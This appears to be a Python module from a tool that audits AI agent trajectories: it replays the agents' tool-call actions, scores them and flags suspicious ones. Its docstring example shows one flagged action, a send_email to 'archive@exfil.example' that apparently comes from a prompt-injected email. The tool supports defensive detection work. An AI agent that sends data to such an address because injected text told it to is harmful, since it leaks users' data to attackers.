"""Run the check: load trajectories (keeping file and line), audit the actions the policy does not
ignore, score each one and collect findings.

    >>> from auditor.check import check_paths
    >>> report = check_paths(["examples/injected_email.jsonl"])  # embedded model, FlashTrace # doctest: +SKIP
    >>> report.exit_code(), [f.message for f in report.findings]  # doctest: +SKIP
    (1, ['send_email({"to": "archive@exfil.example", ...}): its to = "archive@exfil.example" is not supported ...'])
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from auditor.check.findings import CheckReport, SkippedRecord, TrajectoryResult, make_finding, make_verdict, ActionVerdict
from auditor.check.policy import Policy, default_policy
from auditor.check.scoring import score_action
from auditor.collectors.loading import load_path, sniff_format
from auditor.audit.runs import audit_each
from auditor.audit.schema import TrajectoryAudit
from auditor.trajectory import Trajectory
from auditor.actions import with_actions

if TYPE_CHECKING:  # pragma: no cover
    from auditor.audit import Auditor


@dataclass(frozen=True)
class Located:
    """A trajectory and where it was read from (for annotations that point at a line)."""

    trajectory: Trajectory
    file: str | None = None
    line: int | None = None


def load_located(paths: Iterable[str | Path], fmt: str | None = None) -> tuple[list[Located], list[SkippedRecord]]:
    """Load files like `auditor.collectors.loading.load_paths`, remembering each trajectory's file and line.

    In canonical JSONL every non-blank line yields one trajectory or its issues, in order, so the
    n-th kept trajectory sits on the n-th non-blank line that had no error.
    """
    located: list[Located] = []
    skipped: list[SkippedRecord] = []
    for p in paths:
        p = Path(p)
        result = load_path(p, fmt)
        for issue in result.issues:
            if issue.severity == "error":
                skipped.append(SkippedRecord(file=issue.file, line=issue.line, message=str(issue)))
        lines: list[int | None] = [None] * len(result.trajectories)
        if p.is_file() and (fmt or sniff_format(p)) == "trajectory-jsonl":
            bad = {i.line for i in result.issues if i.severity == "error" and i.line is not None}
            with p.open("r", encoding="utf-8", errors="replace") as fh:
                good = [n for n, raw in enumerate(fh, start=1) if raw.strip() and n not in bad]
            if len(good) == len(result.trajectories):
                lines = list(good)
        for traj, line in zip(result.trajectories, lines):
            located.append(Located(traj, str(p), line))
    return located, skipped


def _as_located(items: Iterable[Trajectory | Located]) -> list[Located]:
    return [i if isinstance(i, Located) else Located(i) for i in items]


def audit_settings(policy: Policy) -> dict[str, Any]:
    """What an audit needs for ``policy`` to judge it fully: causal deltas when it decides by the
    calibrated verdict and the verdict's ``causal`` model reads any (`auditor.check.verdict`); a
    policy whose model uses none does not pay for them. `audit check`, `audit trace` and `audit
    report` add these to their replay settings, so every surface judges the same audit."""
    from auditor.check.features import CAUSAL_FEATURES

    uses = set(policy.verdict.causal.weights) & CAUSAL_FEATURES
    return {"causal": True} if policy.decide == "verdict" and uses else {}


def check_audit(
    audit: TrajectoryAudit,
    policy: Policy,
    file: str | None = None,
    line: int | None = None,
    ignored: Sequence[Any] = (),
) -> TrajectoryResult:
    """Score every explained action of one audit (no model needed: the unit under test)."""
    result = TrajectoryResult(trajectory_id=audit.trajectory.id, file=file, line=line, seconds=audit.seconds)
    for attr in audit.actions:
        if policy.ignores(attr.action):
            result.verdicts.append(_ignored(attr.action))
            continue
        score = score_action(attr, policy, audit)
        result.verdicts.append(make_verdict(attr, score, audit))
        if score.flagged:
            result.findings.append(make_finding(attr, score, audit, policy, file, line))
    explained = {attr.action.id for attr in audit.actions}
    for action in [*ignored, *audit.trajectory.actions]:
        if action.id in explained:
            continue
        explained.add(action.id)
        if policy.ignores(action) or action in ignored:
            result.verdicts.append(_ignored(action))
        else:
            result.notes.append(f"not explained by the audit: {action.summary} ({action.id})")
    result.verdicts.sort(key=lambda v: v.step)
    result.notes.extend(f"dropped: {d}" for d in audit.dropped)
    result.notes.extend(f"unplaced: {u}" for u in audit.unplaced)
    return result


def _ignored(action: Any) -> ActionVerdict:
    return ActionVerdict(
        action_id=action.id,
        action_kind=action.kind.value,
        tool_name=action.tool_name,
        arguments=action.arguments,
        step=action.step,
        status="ignored",
    )


def check_audits(
    audits: Iterable[TrajectoryAudit | tuple[TrajectoryAudit, str | None, int | None]],
    policy: Policy | None = None,
) -> CheckReport:
    """A report from audits already made (e.g. read back from the store)."""
    policy = policy or default_policy()
    report = _empty_report(policy)
    for item in audits:
        audit, file, line = item if isinstance(item, tuple) else (item, None, None)
        report.results.append(check_audit(audit, policy, file, line))
        report.model, report.method, report.hops = audit.run.model, audit.run.method, audit.run.hops
    return report


def _empty_report(policy: Policy) -> CheckReport:
    return CheckReport(policy=policy.model_dump(mode="json"), policy_source=policy.source or "default")


def run_check(
    trajectories: Iterable[Trajectory | Located],
    policy: Policy | None = None,
    auditor: "Auditor | None" = None,
    *,
    settings: Mapping[str, Any] | None = None,
    on_result: Callable[[TrajectoryResult], None] | None = None,
    progress: Callable[[str, int, int], Any] | None = None,
    after_each: Callable[[CheckReport, TrajectoryResult, TrajectoryAudit | None], Any] | None = None,
) -> tuple[CheckReport, list[TrajectoryAudit]]:
    """Audit the actions the policy checks and score them; return the report and the audits made.

    The audits go through `auditor.audit.audit_each` under one run id: ``auditor`` is the replay
    engine, or None to build one from ``settings`` (model, method, hops, ...; the embedded model
    with FlashTrace by default) when a trajectory has something to check. `AuditorUnavailable` is
    raised when it cannot be built; an audit that fails is that trajectory's ``error``.

    ``progress(trajectory_id, k, n)`` is called before the k-th of the n audits; ``after_each(report,
    result, audit)`` after each trajectory, with the report so far (so a caller can store and write
    what is finished: an interrupted check keeps it)."""
    policy = policy or default_policy()
    report = _empty_report(policy)
    audits: list[TrajectoryAudit] = []
    t0 = time.perf_counter()
    plans = []
    for item in _as_located(trajectories):
        traj = with_actions(item.trajectory)
        checked = [a for a in traj.actions if not policy.ignores(a)]
        ignored = [a for a in traj.actions if policy.ignores(a)]
        plans.append((item, traj, checked, ignored))
    # only the checked actions are replayed; the generator audits lazily, as the loop below asks
    if auditor is None:
        settings = {**audit_settings(policy), **(settings or {})}
    outcomes = audit_each([traj.model_copy(update={"actions": checked}) for _, traj, checked, _ in plans if checked],
                          auditor=auditor, settings=settings if auditor is None else None, progress=progress)
    for item, traj, checked, ignored in plans:
        audit = None
        if not checked:
            result = TrajectoryResult(trajectory_id=traj.id, file=item.file, line=item.line)
            result.verdicts = [_ignored(a) for a in ignored]
        else:
            out = next(outcomes)
            if out.audit is None:  # one unusable trajectory must not hide the others' findings
                result = TrajectoryResult(trajectory_id=traj.id, file=item.file, line=item.line, error=out.error)
            else:
                audit = out.audit
                audits.append(audit)
                result = check_audit(audit, policy, item.file, item.line, ignored)
                report.model, report.method, report.hops = out.audit.run.model, out.audit.run.method, out.audit.run.hops
        report.results.append(result)
        report.seconds = time.perf_counter() - t0
        if on_result is not None:
            on_result(result)
        if after_each is not None:
            after_each(report, result, audit)
    report.seconds = time.perf_counter() - t0
    return report, audits


def check_trajectories(
    trajectories: Iterable[Trajectory | Located],
    policy: Policy | None = None,
    auditor: "Auditor | None" = None,
    **kw: Any,
) -> CheckReport:
    """Audit and check trajectories; ``auditor=None`` replays on the embedded model with FlashTrace
    (or as ``settings=`` says)."""
    return run_check(trajectories, policy, auditor, **kw)[0]


def check_paths(
    paths: Iterable[str | Path],
    policy: Policy | None = None,
    auditor: "Auditor | None" = None,
    **kw: Any,
) -> CheckReport:
    """Load files (any supported format), then `check_trajectories`; unreadable records are listed as skipped."""
    located, skipped = load_located(paths)
    report = check_trajectories(located, policy, auditor, **kw)
    report.skipped.extend(skipped)
    return report
